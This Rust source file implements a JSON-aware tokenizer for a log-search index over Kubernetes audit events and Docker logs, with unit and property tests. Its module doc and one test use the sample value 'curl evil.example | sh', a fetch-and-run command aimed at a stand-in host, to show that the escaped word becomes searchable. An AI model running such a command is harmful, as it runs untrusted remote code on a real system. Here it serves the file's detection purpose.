//! The tokenizer of the raw input's words (`_raw`): the words of its *values*, read as JSON
//! when the input is JSON.
//!
//! Most raw inputs are JSON (audit events, NDJSON, Docker json-file lines). Split as plain text
//! (tantivy's `SimpleTokenizer`), an escape sequence glues its letter to the next word: a
//! ConfigMap value `"#!/bin/sh\ncurl evil.example | sh"` gave the tokens `bin sh ncurl evil
//! example sh`, so a search for `curl` missed it; `\u003c` gave `u003c`. And every key name
//! (`"apiVersion"`, `"auditID"`, `"username"`, ...) was indexed in every event, though a bare
//! word is a search for a value and keys are asked for with `_exists_:path`.
//!
//! So a text whose first non-blank character is `{` or `[` is scanned as JSON: string values
//! are split into words after their escapes are decoded (`\n`, `\t`, ... separate words,
//! `\uXXXX` is the character it names, surrogate pairs included), object keys are skipped,
//! and numbers and literals outside strings are words as before. Any other text is split as
//! `SimpleTokenizer` splits it (runs of alphanumeric characters). Broken JSON is read
//! leniently (an unterminated string runs to the end; nothing panics, everything is read once).
//!
//! On the 100k-event benchmark corpus (`examples/ingest.rs`) the skipped keys are a third of
//! the raw words' bytes: `_raw` shrank from 5.99 to 5.65 MB (the store from 0.355 to 0.348 of
//! the raw size) at the same CPU per event (this tokenizer is a little slower than
//! `SimpleTokenizer`, 2.9 against 2.5 µs per event, and tantivy hashes fewer words). No crate
//! tokenizes JSON text this way for tantivy, hence this file.

use tantivy::tokenizer::{Token, TokenStream, Tokenizer};

/// Name the tokenizer is registered under in each partition's index.
pub(crate) const RAW_WORDS: &str = "raw_words";

/// Splits raw input into the words of its values (see the module doc).
#[derive(Clone, Default)]
pub(crate) struct RawWordsTokenizer {
    token: Token,
}

impl Tokenizer for RawWordsTokenizer {
    type TokenStream<'a> = RawWords<'a>;

    fn token_stream<'a>(&'a mut self, text: &'a str) -> RawWords<'a> {
        self.token.reset();
        let json = matches!(text.trim_start().as_bytes().first(), Some(b'{' | b'['));
        RawWords {
            text,
            pos: 0,
            json,
            string_end: None,
            token: &mut self.token,
        }
    }
}

/// The token stream of [`RawWordsTokenizer`].
pub(crate) struct RawWords<'a> {
    text: &'a str,
    /// Byte offset of the next character to read.
    pos: usize,
    /// Whether `text` is read as JSON.
    json: bool,
    /// Inside a string value: the offset of its closing quote (or the text's end).
    string_end: Option<usize>,
    token: &'a mut Token,
}

/// What an escape sequence of a JSON string stands for.
enum Escape {
    /// A character (`\"`, `\\`, `\/`, `\uXXXX`).
    Char(char),
    /// A control character (`\n`, `\t`, ...) or a broken escape: a word break.
    Break,
}

impl RawWords<'_> {
    /// The character at `at` and the offset after it, if `at < end`.
    fn char_at(&self, at: usize, end: usize) -> Option<(char, usize)> {
        let b = *self.text.as_bytes().get(at).filter(|_| at < end)?;
        if b.is_ascii() {
            return Some((b as char, at + 1));
        }
        let c = self.text.get(at..)?.chars().next()?;
        Some((c, at + c.len_utf8()))
    }

    /// Decodes the escape whose backslash is at `at`, in a string closing at `end`; returns
    /// what it stands for and the offset after it.
    fn escape(&self, at: usize, end: usize) -> (Escape, usize) {
        let bytes = self.text.as_bytes();
        let Some(&kind) = bytes.get(at + 1).filter(|_| at + 1 < end) else {
            return (Escape::Break, end);
        };
        match kind {
            b'"' | b'\\' | b'/' => (Escape::Char(kind as char), at + 2),
            b'u' => match self.hex4(at + 2, end) {
                Some(high @ 0xD800..=0xDBFF) => {
                    let low = (bytes.get(at + 6) == Some(&b'\\')
                        && bytes.get(at + 7) == Some(&b'u'))
                    .then(|| self.hex4(at + 8, end))
                    .flatten()
                    .filter(|low| (0xDC00..=0xDFFF).contains(low));
                    match low {
                        Some(low) => {
                            let code = 0x10000 + ((high - 0xD800) << 10) + (low - 0xDC00);
                            (char_or_break(code), at + 12)
                        }
                        None => (Escape::Break, at + 6),
                    }
                }
                Some(code) => (char_or_break(code), at + 6),
                None => (Escape::Break, (at + 2).min(end)),
            },
            // Not a JSON escape: a break, and the character after the backslash is skipped.
            _ => (
                Escape::Break,
                self.char_at(at + 1, end).map_or(end, |(_, next)| next),
            ),
        }
    }

    /// The value of four hex digits at `at` (all before `end`).
    fn hex4(&self, at: usize, end: usize) -> Option<u32> {
        if at + 4 > end {
            return None;
        }
        let digits = self.text.get(at..at + 4)?;
        if !digits.bytes().all(|b| b.is_ascii_hexdigit()) {
            return None;
        }
        u32::from_str_radix(digits, 16).ok()
    }

    /// Reads the next word before `end` into the token; in a JSON string (`string`), escapes
    /// are decoded. Returns false when no word is left before `end`.
    fn word(&mut self, end: usize, string: bool) -> bool {
        let bytes = self.text.as_bytes();
        // Find the word's first character.
        let mut first = None;
        while self.pos < end {
            let at = self.pos;
            let b = bytes[at];
            if b.is_ascii_alphanumeric() {
                first = Some((at, None));
                break;
            }
            if b.is_ascii() && !(string && b == b'\\') {
                self.pos += 1;
                continue;
            }
            if string && b == b'\\' {
                let (escape, next) = self.escape(at, end);
                self.pos = next;
                if let Escape::Char(c) = escape {
                    if c.is_alphanumeric() {
                        first = Some((at, Some(c)));
                        break;
                    }
                }
                continue;
            }
            let Some((c, next)) = self.char_at(at, end) else {
                self.pos = end;
                break;
            };
            if c.is_alphanumeric() {
                first = Some((at, None));
                break;
            }
            self.pos = next;
        }
        let Some((from, decoded)) = first else {
            return false;
        };
        self.token.offset_from = from;
        // The verbatim run being read starts at `run`; a decoded first character is pushed.
        let mut run = self.pos;
        if let Some(c) = decoded {
            self.token.text.push(c);
        }
        while self.pos < end {
            let at = self.pos;
            let b = bytes[at];
            if b.is_ascii_alphanumeric() {
                self.pos += 1;
                continue;
            }
            if b.is_ascii() && !(string && b == b'\\') {
                break;
            }
            if string && b == b'\\' {
                let (escape, next) = self.escape(at, end);
                match escape {
                    Escape::Char(c) if c.is_alphanumeric() => {
                        self.token.text.push_str(&self.text[run..at]);
                        self.token.text.push(c);
                        self.pos = next;
                        run = next;
                        continue;
                    }
                    _ => break,
                }
            }
            match self.char_at(at, end) {
                Some((c, next)) if c.is_alphanumeric() => self.pos = next,
                _ => break,
            }
        }
        self.token.text.push_str(&self.text[run..self.pos]);
        self.token.offset_to = self.pos;
        true
    }
}

/// Offset of the closing quote of the JSON string whose content starts at `start` in `text`
/// (the text's length if it has none).
fn string_close(text: &str, start: usize) -> usize {
    let bytes = text.as_bytes();
    let mut i = start;
    while let Some(found) = bytes
        .get(i..)
        .and_then(|rest| memchr::memchr2(b'"', b'\\', rest))
    {
        let at = i + found;
        if bytes[at] == b'"' {
            return at;
        }
        i = at + 2;
    }
    bytes.len()
}

/// True when the string of `text` closed at `close` is an object key (a `:` follows it).
fn is_key(text: &str, close: usize) -> bool {
    text.as_bytes()
        .get(close + 1..)
        .and_then(|rest| rest.iter().find(|b| !b.is_ascii_whitespace()))
        == Some(&b':')
}

/// `raw` without the words of `message`, when `raw` holds `message` whole (see the module doc):
/// in a JSON text, the first string value that is `message` (escapes decoded, trailing white
/// space ignored: Docker's `"log"` ends in `\n`, the message does not) is emptied; in plain
/// text, the first occurrence of `message` between word boundaries is blanked out. `None` when
/// `raw` does not hold it, or `message` has no word.
///
/// The full-text field holds `message`'s words already, split and cut the same way
/// ([`super::text_analyzer`] and [`super::raw_analyzer`] agree), so a query for a word of the
/// raw input looks in both (`filter.rs`) and nothing is lost.
pub(crate) fn without_message(raw: &str, message: &str) -> Option<String> {
    let message = message.trim_end();
    if !message.chars().any(char::is_alphanumeric) {
        return None;
    }
    let (from, to, filler) = if matches!(raw.trim_start().as_bytes().first(), Some(b'{' | b'[')) {
        let (open, close) = json_string_value(raw, message)?;
        (open + 1, close, "")
    } else {
        let (from, to) = text_occurrence(raw, message)?;
        (from, to, " ")
    };
    let mut cut = String::with_capacity(raw.len() - (to - from) + filler.len());
    cut.push_str(&raw[..from]);
    cut.push_str(filler);
    cut.push_str(&raw[to..]);
    Some(cut)
}

/// Offsets of the opening and closing quotes of the first string value of the JSON `text` whose
/// content, decoded and with trailing white space removed, is `wanted`.
fn json_string_value(text: &str, wanted: &str) -> Option<(usize, usize)> {
    let bytes = text.as_bytes();
    let mut pos = 0;
    while let Some(found) = bytes.get(pos..).and_then(|rest| memchr::memchr(b'"', rest)) {
        let open = pos + found;
        let close = string_close(text, open + 1);
        if close >= bytes.len() {
            return None;
        }
        pos = close + 1;
        if is_key(text, close) {
            continue;
        }
        let content = &text[open + 1..close];
        let equal = if content.contains('\\') {
            serde_json::from_str::<String>(&text[open..=close])
                .is_ok_and(|decoded| decoded.trim_end() == wanted)
        } else {
            content.trim_end() == wanted
        };
        if equal {
            return Some((open, close));
        }
    }
    None
}

/// Byte range of the first occurrence of `wanted` in `text` that neither starts nor ends inside
/// a word of `text`.
fn text_occurrence(text: &str, wanted: &str) -> Option<(usize, usize)> {
    let alnum_before = |at: usize| {
        text[..at]
            .chars()
            .next_back()
            .is_some_and(char::is_alphanumeric)
    };
    let alnum_after = |at: usize| text[at..].chars().next().is_some_and(char::is_alphanumeric);
    let starts_word = wanted.chars().next().is_some_and(char::is_alphanumeric);
    let ends_word = wanted
        .chars()
        .next_back()
        .is_some_and(char::is_alphanumeric);
    memchr::memmem::find_iter(text.as_bytes(), wanted.as_bytes())
        .map(|from| (from, from + wanted.len()))
        .find(|&(from, to)| {
            let glued_before = starts_word && alnum_before(from);
            let glued_after = ends_word && alnum_after(to);
            !glued_before && !glued_after
        })
}

fn char_or_break(code: u32) -> Escape {
    char::from_u32(code).map_or(Escape::Break, Escape::Char)
}

impl TokenStream for RawWords<'_> {
    fn advance(&mut self) -> bool {
        self.token.text.clear();
        self.token.position = self.token.position.wrapping_add(1);
        let len = self.text.len();
        loop {
            if let Some(end) = self.string_end {
                if self.word(end, true) {
                    return true;
                }
                self.string_end = None;
                self.pos = (end + 1).min(len);
                continue;
            }
            if !self.json {
                return self.word(len, false);
            }
            let Some((c, next)) = self.char_at(self.pos, len) else {
                return false;
            };
            if c == '"' {
                let close = string_close(self.text, next);
                if is_key(self.text, close) {
                    self.pos = (close + 1).min(len);
                } else {
                    self.string_end = Some(close);
                    self.pos = next;
                }
                continue;
            }
            if c.is_alphanumeric() {
                return self.word(len, false);
            }
            self.pos = next;
        }
    }

    fn token(&self) -> &Token {
        self.token
    }

    fn token_mut(&mut self) -> &mut Token {
        self.token
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;
    use tantivy::tokenizer::SimpleTokenizer;

    fn words(text: &str) -> Vec<String> {
        let mut tokenizer = RawWordsTokenizer::default();
        let mut stream = tokenizer.token_stream(text);
        let mut out = Vec::new();
        while stream.advance() {
            let token = stream.token();
            assert!(token.offset_from < token.offset_to, "{text:?}");
            out.push(token.text.clone());
        }
        out
    }

    fn simple(text: &str) -> Vec<String> {
        let mut tokenizer = SimpleTokenizer::default();
        let mut stream = tokenizer.token_stream(text);
        let mut out = Vec::new();
        while stream.advance() {
            out.push(stream.token().text.clone());
        }
        out
    }

    #[test]
    fn json_values_are_words_and_keys_are_not() {
        let text = r#"{"kind":"Event","user":{"username":"system:kube-scheduler"},"code":403,
            "ok": true, "args": ["sh", "-c"], "empty": ""}"#;
        assert_eq!(
            words(text),
            [
                "Event",
                "system",
                "kube",
                "scheduler",
                "403",
                "true",
                "sh",
                "c"
            ]
        );
    }

    #[test]
    fn escapes_are_decoded_not_glued_to_words() {
        let text = r##"{"data":{"run.sh":"#!/bin/sh\ncurl evil.example | sh\tx\"q\"\\y"}}"##;
        assert_eq!(
            words(text),
            ["bin", "sh", "curl", "evil", "example", "sh", "x", "q", "y"]
        );
        // \u escapes name characters (a surrogate pair too); `<` is a break, `é` a letter.
        assert_eq!(
            words(r#"["caf\u00e9\u003cb\u003e", "\ud835\udc00x", "a\u0041", "\u+041"]"#),
            ["café", "b", "𝐀x", "aA", "041"]
        );
    }

    #[test]
    fn plain_text_splits_like_the_simple_tokenizer() {
        for text in [
            "Nov 24 06:29:46 host sshd[123]: Failed password for root from 10.0.0.5",
            r"C:\new\tools ünïcödé 42",
            "  not json {\"a\":1}",
            "",
        ] {
            assert_eq!(words(text), simple(text), "{text}");
        }
    }

    #[test]
    fn broken_json_is_read_leniently() {
        assert_eq!(words(r#"{"a":"unterminated \"x"#), ["unterminated", "x"]);
        assert_eq!(words(r#"{"a":"bad \u12 escape\"#), ["bad", "12", "escape"]);
        assert_eq!(words(r#"["\ud800 lone", "\uzzzz", "\"#), ["lone", "zzzz"]);
        assert_eq!(words("[\"é\\"), ["é"]);
        assert_eq!(words("{"), Vec::<String>::new());
    }

    /// The words of a JSON value's leaves, in document order, each split as plain text.
    fn leaf_words(value: &serde_json::Value, out: &mut Vec<String>) {
        match value {
            serde_json::Value::Object(map) => map.values().for_each(|v| leaf_words(v, out)),
            serde_json::Value::Array(items) => items.iter().for_each(|v| leaf_words(v, out)),
            serde_json::Value::String(s) => out.extend(simple(s)),
            other => out.extend(simple(&other.to_string())),
        }
    }

    /// Every line of the recorded audit traces in `shared/testdata` (real kube-apiserver
    /// output, nested objects, escaped quotes and `\u` escapes): its words are its leaves' words.
    #[test]
    fn real_audit_lines_give_their_leaves_words() {
        let dir = concat!(
            env!("CARGO_MANIFEST_DIR"),
            "/../../../shared/testdata/k8s-audit"
        );
        let mut files: Vec<std::path::PathBuf> = ["falco-traces", "benign-hkerma"]
            .iter()
            .flat_map(|sub| std::fs::read_dir(format!("{dir}/{sub}")).expect("testdata"))
            .map(|entry| entry.expect("entry").path())
            .filter(|p| p.extension().is_some_and(|e| e == "json" || e == "jsonl"))
            .collect();
        files.sort();
        let mut lines = 0;
        for file in files {
            let text = std::fs::read_to_string(&file).expect("read");
            for line in text.lines().filter(|l| !l.trim().is_empty()) {
                let Ok(value) = serde_json::from_str::<serde_json::Value>(line) else {
                    continue;
                };
                let mut expected = Vec::new();
                leaf_words(&value, &mut expected);
                assert_eq!(words(line), expected, "{}: {line}", file.display());
                lines += 1;
            }
        }
        assert!(lines > 1000, "only {lines} lines read");
    }

    #[test]
    fn the_message_is_cut_from_the_raw_input_that_holds_it_whole() {
        // Docker's json-file line: the `log` value ends in an escaped newline.
        let docker =
            r#"{"log":"GET /healthz 200\n","stream":"stdout","time":"2024-05-01T10:00:00Z"}"#;
        assert_eq!(
            without_message(docker, "GET /healthz 200").as_deref(),
            Some(r#"{"log":"","stream":"stdout","time":"2024-05-01T10:00:00Z"}"#)
        );
        // Escapes are decoded before comparing; a key with the same text is not a value.
        let escaped = r#"{"say \"hi\"":1,"msg":"say \"hi\" \u00e9"}"#;
        assert_eq!(
            without_message(escaped, "say \"hi\" é").as_deref(),
            Some(r#"{"say \"hi\"":1,"msg":""}"#)
        );
        assert_eq!(without_message(r#"{"msg":"other"}"#, "hello"), None);
        assert_eq!(without_message(r#"{"hello":1}"#, "hello"), None);
        // Plain text: blanked between word boundaries only.
        assert_eq!(
            without_message("2024-05-01T10:00:00Z stdout F hello world", "hello world").as_deref(),
            Some("2024-05-01T10:00:00Z stdout F  ")
        );
        assert_eq!(without_message("xhello world", "hello world"), None);
        assert_eq!(
            without_message("xhello world; hello world!", "hello world").as_deref(),
            Some("xhello world;  !")
        );
        // A message without words leaves the raw input whole.
        assert_eq!(without_message(r#"{"log":"--\n"}"#, "--"), None);
        assert_eq!(without_message("", ""), None);
    }

    proptest! {
        /// The words of a raw input holding its message are the words of the raw input with
        /// the message cut out, and the message's (as the full-text field splits it).
        #[test]
        fn cutting_the_message_loses_no_word(
            values in proptest::collection::vec(".{0,30}", 1..5),
            pick in any::<proptest::sample::Index>(),
            json in any::<bool>(),
            newline in any::<bool>(),
        ) {
            use std::collections::BTreeSet;
            let message = values[pick.index(values.len())].clone();
            let raw = if json {
                let stored: Vec<serde_json::Value> = values
                    .iter()
                    .map(|v| {
                        let v = if newline && *v == message { format!("{v}\n") } else { v.clone() };
                        serde_json::Value::String(v)
                    })
                    .collect();
                serde_json::Value::Array(stored).to_string()
            } else {
                values.join(" | ")
            };
            let analyzed = |mut analyzer: tantivy::tokenizer::TextAnalyzer, text: &str| {
                let mut stream = analyzer.token_stream(text);
                let mut out = BTreeSet::new();
                while stream.advance() {
                    out.insert(stream.token().text.clone());
                }
                out
            };
            let whole = analyzed(super::super::raw_analyzer(), &raw);
            if let Some(cut) = without_message(&raw, &message) {
                let mut rebuilt = analyzed(super::super::raw_analyzer(), &cut);
                rebuilt.extend(analyzed(super::super::text_analyzer(), &message));
                prop_assert_eq!(rebuilt, whole);
            } else if json {
                // A JSON value is found whenever the message has a word.
                prop_assert!(!message.chars().any(char::is_alphanumeric), "{raw} / {message:?}");
            }
        }

        /// Any text: no panic, offsets inside the text and increasing, words alphanumeric.
        #[test]
        fn any_text_is_tokenized_safely(text in ".{0,200}", json in any::<bool>()) {
            let text = if json { format!("{{{text}") } else { text };
            let mut tokenizer = RawWordsTokenizer::default();
            let mut stream = tokenizer.token_stream(&text);
            let mut last = 0;
            while stream.advance() {
                let token = stream.token();
                prop_assert!(token.offset_from >= last && token.offset_to <= text.len());
                prop_assert!(token.text.chars().all(char::is_alphanumeric));
                last = token.offset_to;
            }
        }

        /// A JSON document's words are the words of its string values and of its numbers.
        #[test]
        fn json_words_are_the_words_of_its_values(
            values in proptest::collection::vec(("[a-z]{1,5}", ".{0,20}"), 0..6),
        ) {
            let object: serde_json::Map<String, serde_json::Value> = values
                .iter()
                .map(|(k, v)| (k.clone(), serde_json::Value::String(v.clone())))
                .collect();
            let text = serde_json::Value::Object(object.clone()).to_string();
            let expected: Vec<String> = object
                .values()
                .flat_map(|v| simple(v.as_str().unwrap_or_default()))
                .collect();
            prop_assert_eq!(words(&text), expected);
        }
    }
}
